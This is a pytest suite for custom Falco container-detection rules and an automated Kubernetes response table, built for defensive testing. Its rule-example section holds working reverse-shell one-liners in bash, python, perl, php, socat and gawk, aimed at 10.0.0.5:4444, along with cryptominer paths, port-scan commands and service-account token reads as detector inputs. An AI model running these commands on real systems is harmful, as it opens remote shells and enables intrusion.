"""Tests for falco-rules/ and responder/default_actions.yaml: structure, compilation, behaviour."""

from __future__ import annotations

import fnmatch
import os
import re
import shlex
from pathlib import Path

import pytest
import yaml

from responder.actions import default_registry
from responder.events import event_from_dict
from responder.table import load_table, match_rules

from . import falco_rules_filter as frf

ROOT = Path(__file__).resolve().parents[1]
RULES_DIR = ROOT / "falco-rules"
RULES_PATH = RULES_DIR / "responder_rules.yaml"
DEFAULTS_PATH = RULES_DIR / "falco_default_macros.yaml"
CASES_PATH = RULES_DIR / "renamed-netcat-cases.yaml"
README_PATH = RULES_DIR / "README.md"
ACTIONS_PATH = ROOT / "responder" / "default_actions.yaml"
CONTRACT_PATH = Path(__file__).parent / "data" / "FALCO-EVENTS.md"  # copy of the contract

RULES_FILE = frf.load_rules_file(RULES_PATH)
OURS = RULES_FILE.definitions
DEFAULTS = frf.load_default_macros(DEFAULTS_PATH)
DEFS = OURS.merged(DEFAULTS)
RULES = {rule["rule"]: rule for rule in RULES_FILE.rules}
CASES = yaml.safe_load(CASES_PATH.read_text())

RENAMED_NETCAT = "Suspect Renamed Netcat Remote Code Execution in Container"
K8S_FIELDS = "k8s.ns.name=%k8s.ns.name k8s.pod.name=%k8s.pod.name container.id=%container.id"
FALCO_PRIORITIES = {
    "emergency", "alert", "critical", "error", "warning", "notice",
    "info", "informational", "debug",
}
REQUIRED_RULE_KEYS = {"rule", "desc", "condition", "output", "priority", "tags"}
OPTIONAL_RULE_KEYS = {"enabled", "exceptions", "source", "warn_evttypes", "skip-if-unknown-filter"}

# Stock rule names worth a response, as listed in the contract (section 3):
# falcosecurity/rules stable/incubating rules and the k8saudit plugin rules.
STOCK_SYSCALL_RULES = {
    "Terminal shell in container",
    "Netcat Remote Code Execution in Container",
    "Redirect STDOUT/STDIN to Network Connection in Container",
    "Packet socket created in container",
    "Drop and execute new binary in container",
    "Detect release_agent File Container Escapes",
    "Fileless execution via memfd_create",
    "Launch Suspicious Network Tool in Container",
}
STOCK_K8S_AUDIT_RULES = {
    "Attach/Exec Pod",
    "EphemeralContainers Created",
    "Create Privileged Pod",
    "Create HostNetwork Pod",
    "Create HostPid Pod",
    "Create HostIPC Pod",
    "Create Sensitive Mount Pod",
}
# Stable rule that the contract's table leaves out; read from falcosecurity/rules.
STOCK_RULES_NOT_IN_CONTRACT = {"Execution from /dev/shm"}
STOCK_RULES = STOCK_SYSCALL_RULES | STOCK_K8S_AUDIT_RULES | STOCK_RULES_NOT_IN_CONTRACT


def _one_line(text: str) -> str:
    return " ".join(text.split())


def _condition(rule_name: str) -> str:
    return frf.expand(RULES[rule_name]["condition"], DEFS)


def _process(cmdline: str, tid: int, in_container: bool = True):
    return frf.Process(tuple(shlex.split(cmdline)), tid, in_container=in_container)


def _matches(rule_name: str, proc) -> bool:
    return frf.evaluate(frf.parse_filter(_condition(rule_name)), proc.fields())


rule_names = pytest.mark.parametrize("name", sorted(RULES))


# ---------------------------------------------------------------------------
# The rules file: shape
# ---------------------------------------------------------------------------


def test_rules_file_holds_only_rules_macros_and_lists():
    assert RULES_FILE.other_items == []
    assert len(RULES) >= 5
    assert RENAMED_NETCAT in RULES


def test_rule_names_are_unique():
    names = [rule["rule"] for rule in RULES_FILE.rules]
    assert len(names) == len(set(names))


@rule_names
def test_rule_has_the_falcosecurity_keys(name):
    rule = RULES[name]
    assert set(rule) >= REQUIRED_RULE_KEYS, f"missing {REQUIRED_RULE_KEYS - set(rule)}"
    assert set(rule) <= REQUIRED_RULE_KEYS | OPTIONAL_RULE_KEYS
    for key in ("desc", "condition", "output"):
        assert isinstance(rule[key], str) and rule[key].strip(), key
    assert all(isinstance(tag, str) for tag in rule["tags"])


@rule_names
def test_rule_priority_is_a_falco_priority(name):
    assert str(RULES[name]["priority"]).lower() in FALCO_PRIORITIES


def _condition_nodes() -> dict[str, yaml.Node]:
    # The condition as YAML wrote it: a folded block keeps no newline once parsed.
    nodes = {}
    for item in yaml.compose(RULES_PATH.read_text()).value:
        keys = {k.value: v for k, v in item.value}
        if "rule" in keys:
            nodes[keys["rule"].value] = keys["condition"]
    return nodes


@rule_names
def test_rule_condition_is_a_block_over_several_lines(name):
    node = _condition_nodes()[name]
    assert node.style in (">", "|")
    assert node.end_mark.line - node.start_mark.line >= 3


@rule_names
def test_rule_tags_name_a_mitre_tactic_and_technique(name):
    tags = RULES[name]["tags"]
    assert any(tag.startswith("mitre_") for tag in tags)
    assert any(re.fullmatch(r"T\d{4}(\.\d{3})?|TA\d{4}", tag) for tag in tags)


@rule_names
def test_rule_output_carries_the_k8s_fields(name):
    assert K8S_FIELDS in _one_line(RULES[name]["output"])


# ---------------------------------------------------------------------------
# Macros and lists: defined, ours prefixed, Falco defaults declared
# ---------------------------------------------------------------------------


@rule_names
def test_rule_uses_only_defined_macros(name):
    assert frf.unresolved_macros(RULES[name]["condition"], DEFS) == set()


@rule_names
def test_rule_list_words_that_look_like_list_names_are_defined(name):
    # A value-list word with an underscore is a list name in our naming scheme
    # (process names here have none): it must resolve, not pass as a literal.
    expanded = _condition(name)
    words = {r.token.text for r in frf.scan_references(expanded) if r.kind == "list_item"}
    assert {w for w in words if "_" in w} == set()


def test_our_macros_and_lists_are_prefixed():
    names = set(OURS.macros) | set(OURS.lists)
    assert names and all(n.startswith("responder_") for n in names), sorted(names)


def test_our_names_do_not_shadow_falco_defaults():
    assert not (set(OURS.macros) | set(OURS.lists)) & (set(DEFAULTS.macros) | set(DEFAULTS.lists))


def test_default_macros_file_holds_exactly_the_falco_names_we_use():
    used = set().union(*(frf.used_names(rule["condition"], DEFS) for rule in RULES.values()))
    falco_used = used - set(OURS.macros) - set(OURS.lists)
    assert falco_used == set(DEFAULTS.macros) | set(DEFAULTS.lists)


def test_every_macro_and_list_we_define_is_used():
    used = set().union(*(frf.used_names(rule["condition"], DEFS) for rule in RULES.values()))
    assert set(OURS.macros) | set(OURS.lists) <= used


def test_rules_file_and_readme_name_the_falco_defaults_we_rely_on():
    header = RULES_PATH.read_text().split("- list:", 1)[0]
    readme = README_PATH.read_text()
    for name in set(DEFAULTS.macros) | set(DEFAULTS.lists):
        assert name in header, name
        assert f"`{name}`" in readme, name


def test_no_list_is_empty():
    assert all(items for items in DEFS.lists.values())


def test_glob_patterns_have_no_backslash():
    # Python's fnmatch equals POSIX fnmatch(flags=0), which libsinsp's glob
    # uses, except for backslash escapes: keep patterns free of them.
    for name in RULES:
        for token in frf.tokenize(_condition(name)):
            assert "\\" not in token.text, (name, token.text)


def test_expansion_replaces_whole_tokens_only():
    defs = frf.Definitions({"container": "(container.id != host)"}, {"names": ["a", "b"]})
    text = "container and container.id=x and proc.name in (names, c) and proc.pname=names"
    assert frf.expand(text, defs) == (
        "((container.id != host)) and container.id=x and proc.name in (a, b, c) "
        "and proc.pname=names"
    )


def test_expansion_resolves_nested_macros_and_lists():
    defs = frf.Definitions(
        {"outer": "inner and proc.name in (l1)", "inner": "(evt.num=0)"},
        {"l1": ["l2", "x"], "l2": ["y"]},
    )
    assert frf.expand("not outer", defs) == "not (((evt.num=0)) and proc.name in (y, x))"
    assert frf.unresolved_macros("outer and missing_macro", defs) == {"missing_macro"}


# ---------------------------------------------------------------------------
# The evaluator itself
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('proc.args contains "-e /bin/sh"', True),
        ("proc.args startswith -e", True),
        ("proc.args endswith 4444", True),
        ('proc.args glob "*-[ec] /bin/*"', True),
        ('proc.args glob "-[ec] /bin/"', False),
        ("proc.name in (a, unnamedbin)", True),
        ("not proc.name in (a, unnamedbin)", False),
        ("proc.name = a or (proc.name = unnamedbin and container.id != host)", True),
        ("not (proc.name = a or proc.name = unnamedbin)", False),
        ('proc.args icontains "-E /BIN"', True),
        ("proc.tty = 0", True),
    ],
)
def test_evaluator_implements_the_filter_operators(text, expected):
    proc = _process("/tmp/unnamedbin -e /bin/sh 10.0.0.5 4444", 1)
    assert frf.evaluate(frf.parse_filter(text), proc.fields()) is expected


@pytest.mark.parametrize(
    "text",
    ["proc.name = a and proc.name = b or proc.name = c", "proc.name = a and", "(proc.name = a",
     "spawned_process and proc.name = a"],
)
def test_evaluator_rejects_what_libsinsp_rejects(text):
    with pytest.raises(SyntaxError):
        frf.parse_filter(text)


def test_evaluator_refuses_fields_it_was_not_given():
    with pytest.raises(KeyError):
        frf.evaluate(frf.parse_filter("fd.name = x"), {"proc.name": "x"})


# ---------------------------------------------------------------------------
# Renamed netcat: the labelled cases
# ---------------------------------------------------------------------------

CASE_LIST = CASES["cases"]
case_params = pytest.mark.parametrize(
    "case", CASE_LIST, ids=[f"{c['label']}:{c['cmdline'][:60]}" for c in CASE_LIST]
)


def test_cases_table_names_our_rule_and_has_twenty_of_each_label():
    assert CASES["rule"] == RENAMED_NETCAT
    labels = [c["label"] for c in CASE_LIST]
    assert set(labels) <= {"malicious", "benign", "stock"}
    assert labels.count("malicious") >= 20
    assert labels.count("benign") >= 20
    assert all(c["why"].strip() for c in CASE_LIST)
    # Falco's proc.exepath is an absolute path; the evaluator takes it from argv[0].
    assert all(c["cmdline"].startswith("/") for c in CASE_LIST)
    assert len({c["cmdline"] for c in CASE_LIST}) == len(CASE_LIST)


@case_params
def test_renamed_netcat_rule_follows_the_case_label(case):
    proc = _process(case["cmdline"], 1)
    assert _matches(RENAMED_NETCAT, proc) is (case["label"] == "malicious"), case["why"]


@case_params
def test_renamed_netcat_rule_ignores_the_same_command_on_the_host(case):
    assert _matches(RENAMED_NETCAT, _process(case["cmdline"], 1, in_container=False)) is False


def test_stock_cases_are_the_names_the_stock_rule_checks():
    stock = [c for c in CASE_LIST if c["label"] == "stock"]
    assert stock and {_process(c["cmdline"], 1).comm for c in stock} <= {"nc", "ncat"}


# That every exclusion and detection path of the rule is needed by some line
# of this table or of the corpora is checked in test_renamed_netcat_corpus.py.


@pytest.mark.parametrize(
    "cmdline", ["/bin/bash -c 'ls -la /tmp'", "/usr/bin/python -c 'import hashlib'"]
)
def test_naive_ash_and_dash_c_check_misfires_where_ours_does_not(cmdline):
    naive = frf.parse_filter('proc.cmdline contains "ash" and proc.cmdline contains "-c"')
    proc = _process(cmdline, 1)
    assert frf.evaluate(naive, proc.fields()) is True
    assert _matches(RENAMED_NETCAT, proc) is False


# ---------------------------------------------------------------------------
# Other execve-based rules: a few examples each
# ---------------------------------------------------------------------------

RULE_EXAMPLES = {
    "Reverse Shell One-Liner in Container": [
        ("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'", True),
        ("/bin/sh -c '0<&196;exec 196<>/dev/tcp/10.0.0.5/4444; sh <&196 >&196 2>&196'", True),
        ("/bin/sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f'",
         True),
        ("/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();"
         "s.connect((\"10.0.0.5\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
         True),
        ("/usr/bin/perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\")'",
         True),
        ("/usr/bin/php -r '$s=fsockopen(\"10.0.0.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
         True),
        ("/usr/bin/socat tcp-connect:10.0.0.5:4444 exec:/bin/sh,pty,stderr", True),
        ("/usr/bin/gawk 'BEGIN {s=\"/inet/tcp/0/10.0.0.5/4444\"}'", True),
        ("/bin/bash -c 'cat < /dev/null > /dev/tcp/db/5432'", False),
        ("/bin/bash -c 'exec 3<>/dev/tcp/web/80; echo -e \"GET /\" >&3; cat <&3'", False),
        ("/usr/bin/python3 -c \"import socket; socket.create_connection(('db', 5432))\"", False),
        ("/usr/bin/socat TCP-LISTEN:8080,fork TCP:backend:80", False),
    ],
    "Execution from Temporary Directory in Container": [
        ("/tmp/xmrig --donate-level 1", True),
        ("/var/tmp/.cache/kdevtmpfsi", True),
        ("/bin/sh /tmp/install.sh", True),
        ("/usr/bin/python3 /dev/shm/x.py", True),
        ("/usr/local/bin/app --tmp-dir /tmp/", False),
        ("/bin/sh /dev/shm/x.sh", False),
        ("/bin/sh -c 'ls /tmp/'", False),
    ],
    "Network Scanner Launched in Container": [
        ("/usr/bin/nmap 10.0.0.5", True),
        ("/tmp/scan -sS -p 22,80 10.0.0.0/24", True),
        ("/tmp/x -Pn --top-ports 100 10.0.0.5", True),
        ("/tmp/m 10.0.0.0/8 -p80 --max-rate 100000 --banners", True),
        ("/tmp/n -p- 10.0.0.5", True),
        ("/usr/bin/curl -sS http://10.0.0.5:8080/", False),
        ("/bin/ls -sS /var/log", False),
        ("/usr/bin/du -sS /data", False),
        ("/usr/local/bin/app --port 8080", False),
    ],
}
EXAMPLE_PARAMS = [
    (rule, cmdline, expected)
    for rule, examples in RULE_EXAMPLES.items()
    for cmdline, expected in examples
]


@pytest.mark.parametrize(("rule", "cmdline", "expected"), EXAMPLE_PARAMS)
def test_execve_rule_example(rule, cmdline, expected):
    assert _matches(rule, _process(cmdline, 1)) is expected


def _open_fields(proc_name: str, path: str, tty: int = 0) -> dict[str, object]:
    return {
        "evt.num": 2, "evt.type": "openat", "evt.is_open_read": "true",
        "fd.typechar": "f", "fd.num": 3,
        "container.id": frf.CONTAINER_ID, "fd.name": path, "proc.name": proc_name,
        "proc.tty": tty,
    }


TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        (_open_fields("cat", TOKEN), True),
        (_open_fields("bash", "/run/secrets/kubernetes.io/serviceaccount/..2024/token"), True),
        (_open_fields("python3", TOKEN, tty=34816), True),
        (_open_fields("curl", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"), True),
        (_open_fields("python3", TOKEN), False),
        (_open_fields("app", TOKEN), False),
        (_open_fields("cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"), False),
        (_open_fields("cat", "/etc/hostname"), False),
    ],
)
def test_service_account_token_rule_example(fields, expected):
    condition = _condition("Service Account Token Read by Unexpected Process in Container")
    assert frf.evaluate(frf.parse_filter(condition), fields) is expected


def test_every_rule_has_examples():
    covered = set(RULE_EXAMPLES) | {RENAMED_NETCAT}
    covered.add("Service Account Token Read by Unexpected Process in Container")
    assert covered == set(RULES)


# ---------------------------------------------------------------------------
# libsinsp (Debian's sysdig): compile every condition, replay synthetic execs
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sysdig():
    if frf.find_sysdig() is None:
        if os.environ.get("CI"):
            pytest.fail("sysdig is missing; .ci/apt-packages lists it for CI")
        pytest.skip("sysdig is not installed (apt-get install sysdig); CI requires it")


@pytest.fixture(scope="module")
def minimal_capture(sysdig, tmp_path_factory):
    return frf.write_minimal_capture(tmp_path_factory.mktemp("scap") / "minimal.scap")


def _compiles(capture, condition, output_format="%evt.num") -> tuple[bool, str]:
    code, out = frf.run_sysdig(capture, condition, output_format)
    failed = code != 0 or "error" in out or "invalid formatting token" in out
    return not failed, out


def test_sysdig_reads_the_minimal_capture(minimal_capture):
    code, out = frf.run_sysdig(minimal_capture, "evt.num > 0")
    assert code == 0 and out.split() == ["1"], out


@pytest.mark.parametrize(
    ("condition", "message"),
    [
        ("proc.nme = bash", "unrecognized field proc.nme"),
        ("proc.name = bash and", "unexpected end of filter"),
        ("proc.name = a and proc.name = b or proc.name = c", "mixes 'and' and 'or'"),
        ("spawned_process and proc.name = x", "unrecognized field spawned_process"),
        ("evt.type = nosuchsyscall", "unknown event type"),
    ],
)
def test_sysdig_rejects_a_bad_filter(minimal_capture, condition, message):
    ok, out = _compiles(minimal_capture, condition)
    assert not ok and "filter error" in out and message in out, out


def test_sysdig_rejects_an_unknown_output_field(minimal_capture):
    ok, out = _compiles(minimal_capture, "evt.num > 0", "pod=%k8s.pod.nme")
    assert not ok and "invalid formatting token" in out, out


@rule_names
def test_rule_condition_compiles_in_libsinsp(minimal_capture, name):
    ok, out = _compiles(minimal_capture, _condition(name))
    assert ok, out


@rule_names
def test_rule_output_compiles_in_libsinsp(minimal_capture, name):
    ok, out = _compiles(minimal_capture, "evt.num > 0", _one_line(RULES[name]["output"]))
    assert ok, out


@pytest.mark.parametrize("macro", sorted(DEFS.macros))
def test_every_macro_compiles_on_its_own(minimal_capture, macro):
    ok, out = _compiles(minimal_capture, frf.expand(macro, DEFS))
    assert ok, out


@pytest.fixture(scope="module")
def case_capture(sysdig, tmp_path_factory):
    procs = [_process(c["cmdline"], 1000 + n) for n, c in enumerate(CASE_LIST)]
    host = [_process(c["cmdline"], 5000 + n, in_container=False) for n, c in enumerate(CASE_LIST)]
    path = tmp_path_factory.mktemp("scap") / "cases.scap"
    return frf.write_capture(path, procs + host), procs + host


def _matched_tids(capture, condition) -> set[int]:
    code, out = frf.run_sysdig(capture, condition, "%thread.tid")
    assert code == 0, out
    return {int(line) for line in out.split()}


def test_libsinsp_sees_the_fields_the_evaluator_is_given(case_capture):
    capture, procs = case_capture
    names = ["proc.name", "proc.args", "proc.cmdline", "proc.exepath", "container.id"]
    fmt = "@@".join(["%thread.tid"] + [f"%{n}" for n in names])
    code, out = frf.run_sysdig(capture, "evt.type = execve and evt.dir = <", fmt)
    assert code == 0, out
    seen = {int(line.split("@@")[0]): line.split("@@")[1:] for line in out.splitlines()}
    assert seen == {p.tid: [str(p.fields()[n]) for n in names] for p in procs}


def test_libsinsp_agrees_with_the_case_labels(case_capture):
    capture, procs = case_capture
    spawned_in_container = frf.expand("spawned_process and container", DEFS)
    assert _matched_tids(capture, spawned_in_container) == {p.tid for p in procs if p.tid < 5000}
    malicious = {1000 + n for n, c in enumerate(CASE_LIST) if c["label"] == "malicious"}
    assert _matched_tids(capture, _condition(RENAMED_NETCAT)) == malicious


def test_libsinsp_agrees_with_the_other_execve_examples(sysdig, tmp_path):
    procs = [_process(cmd, 2000 + n) for n, (_, cmd, _) in enumerate(EXAMPLE_PARAMS)]
    capture = frf.write_capture(tmp_path / "examples.scap", procs)
    for rule in RULE_EXAMPLES:
        mine = {2000 + n for n, (r, _, _) in enumerate(EXAMPLE_PARAMS) if r == rule}
        expected = {2000 + n for n, (r, _, hit) in enumerate(EXAMPLE_PARAMS) if r == rule and hit}
        assert _matched_tids(capture, _condition(rule)) & mine == expected, rule


# ---------------------------------------------------------------------------
# The default action table
# ---------------------------------------------------------------------------

ACTIONS = yaml.safe_load(ACTIONS_PATH.read_text())
TABLE = ACTIONS["rules"]

# Priorities of the stock rules, from the contract (section 3) and falcosecurity/rules.
STOCK_PRIORITIES = {
    "Terminal shell in container": "Notice",
    "Netcat Remote Code Execution in Container": "Warning",
    "Redirect STDOUT/STDIN to Network Connection in Container": "Notice",
    "Packet socket created in container": "Notice",
    "Drop and execute new binary in container": "Critical",
    "Detect release_agent File Container Escapes": "Critical",
    "Fileless execution via memfd_create": "Critical",
    "Launch Suspicious Network Tool in Container": "Notice",
    "Execution from /dev/shm": "Warning",
    "Attach/Exec Pod": "Notice",
    "EphemeralContainers Created": "Notice",
    "Create Privileged Pod": "Warning",
    "Create HostNetwork Pod": "Warning",
    "Create HostPid Pod": "Warning",
    "Create HostIPC Pod": "Warning",
    "Create Sensitive Mount Pod": "Warning",
}
EXPECTED_ENTRY = {
    "Netcat Remote Code Execution in Container": "contain-reverse-shells",
    RENAMED_NETCAT: "contain-reverse-shells",
    "Reverse Shell One-Liner in Container": "contain-reverse-shells",
    "Detect release_agent File Container Escapes": "isolate-container-escapes",
    "Drop and execute new binary in container": "kill-dropped-payloads",
    "Fileless execution via memfd_create": "kill-dropped-payloads",
    "Create Privileged Pod": "delete-privileged-pods",
    "Create HostNetwork Pod": "delete-privileged-pods",
    "Create HostPid Pod": "delete-privileged-pods",
    "Create HostIPC Pod": "delete-privileged-pods",
    "Create Sensitive Mount Pod": "delete-privileged-pods",
    "Terminal shell in container": "label-interactive-sessions",
    "Attach/Exec Pod": "label-interactive-sessions",
    "EphemeralContainers Created": "label-interactive-sessions",
    "Execution from Temporary Directory in Container": "label-suspicious-activity",
    "Execution from /dev/shm": "label-suspicious-activity",
    "Service Account Token Read by Unexpected Process in Container": "label-suspicious-activity",
    "Network Scanner Launched in Container": "label-suspicious-activity",
    "Redirect STDOUT/STDIN to Network Connection in Container": "label-suspicious-activity",
    "Packet socket created in container": "label-suspicious-activity",
    "Launch Suspicious Network Tool in Container": "label-suspicious-activity",
}


@pytest.fixture(scope="module")
def packaged_table():
    return load_table(None, default_registry())


def _falco_event(rule: str, priority: str | None = None, tags: list[str] | None = None):
    """An event as Falco would send it for `rule`, with our rules' own priority and tags."""
    if rule in RULES:
        priority, tags = RULES[rule]["priority"], RULES[rule]["tags"]
    k8s_audit = rule in STOCK_K8S_AUDIT_RULES
    fields = (
        {"ka.target.namespace": "shop", "ka.target.name": "web-0", "ka.resp.name": "web-0"}
        if k8s_audit
        else {"k8s.ns.name": "shop", "k8s.pod.name": "web-0", "container.id": frf.CONTAINER_ID}
    )
    return event_from_dict({
        "rule": rule,
        "priority": priority or STOCK_PRIORITIES[rule],
        "source": "k8s_audit" if k8s_audit else "syscall",
        "tags": tags if tags is not None else (["k8s"] if k8s_audit else ["container"]),
        "output_fields": fields,
    })


def _decided(table, rule: str, **kwargs) -> list:
    return match_rules(table, _falco_event(rule, **kwargs))


def test_packaged_table_is_this_file_and_keeps_dry_run_on(packaged_table):
    assert [r.name for r in packaged_table.rules] == [e["name"] for e in TABLE]
    assert packaged_table.dry_run is True
    assert "kube-system" in packaged_table.protected_namespaces
    assert all("dry_run" not in e and "notify" not in e for e in TABLE)


def test_action_table_rule_patterns_name_real_rules():
    known = set(RULES) | STOCK_RULES
    for entry in TABLE:
        for pattern in entry["match"].get("rules", []):
            assert any(fnmatch.fnmatchcase(n, pattern) for n in known), pattern


def test_stock_rule_names_are_current_per_the_contract():
    contract = CONTRACT_PATH.read_text()
    for name in STOCK_SYSCALL_RULES | STOCK_K8S_AUDIT_RULES:
        assert name in contract, name


def test_every_custom_and_listed_stock_rule_has_an_expected_entry():
    assert set(EXPECTED_ENTRY) == set(RULES) | STOCK_RULES


@pytest.mark.parametrize(("rule", "entry"), sorted(EXPECTED_ENTRY.items()))
def test_packaged_table_sends_each_rule_to_its_entry(packaged_table, rule, entry):
    assert [r.name for r in _decided(packaged_table, rule)] == [entry]


@pytest.mark.parametrize(
    "rule",
    ["Netcat Remote Code Execution in Container", RENAMED_NETCAT,
     "Reverse Shell One-Liner in Container"],
)
def test_reverse_shells_are_captured_isolated_detached_and_labelled_not_deleted(packaged_table,
                                                                              rule):
    (decided,) = _decided(packaged_table, rule)
    assert [(a.action, dict(a.params), a.on_failure) for a in decided.actions] == [
        ("capture-evidence", {}, "continue"), ("isolate-pod", {"detach": True}, "continue"),
        ("isolate-pod", {}, "continue"),
        ("label-pod", {"labels": {"quarantine": "true", "falco-response": "reverse-shell"}},
         "continue")]
    assert decided.continue_ is False


@pytest.mark.parametrize("rule", ["Create Privileged Pod", "Create HostNetwork Pod"])
def test_privileged_and_host_network_pods_are_deleted(packaged_table, rule):
    (decided,) = _decided(packaged_table, rule)
    assert [a.action for a in decided.actions] == ["delete-pod"]


@pytest.mark.parametrize("rule", ["Terminal shell in container", "Attach/Exec Pod"])
def test_interactive_shells_are_only_labelled(packaged_table, rule):
    (decided,) = _decided(packaged_table, rule)
    assert [a.action for a in decided.actions] == ["label-pod"]


def test_container_escape_also_cordons_the_node(packaged_table):
    (decided,) = _decided(packaged_table, "Detect release_agent File Container Escapes")
    assert [a.action for a in decided.actions] == ["label-pod", "delete-pod", "cordon-node"]


def test_unknown_critical_container_rule_is_labelled_and_others_ignored(packaged_table):
    critical = _decided(packaged_table, "Some Future Rule", priority="Critical",
                        tags=["container", "process"])
    assert [r.name for r in critical] == ["label-critical-container-events"]
    assert _decided(packaged_table, "Some Future Rule", priority="Warning",
                    tags=["container"]) == []
    assert _decided(packaged_table, "Some Host Rule", priority="Critical", tags=["host"]) == []


def test_no_entry_filters_k8s_audit_rules_on_tags_or_source():
    for entry in TABLE:
        if set(entry["match"].get("rules", [])) & STOCK_K8S_AUDIT_RULES:
            assert set(entry["match"].get("tags", [])) <= {"k8s"}, entry["name"]
            assert "source" not in entry["match"], entry["name"]
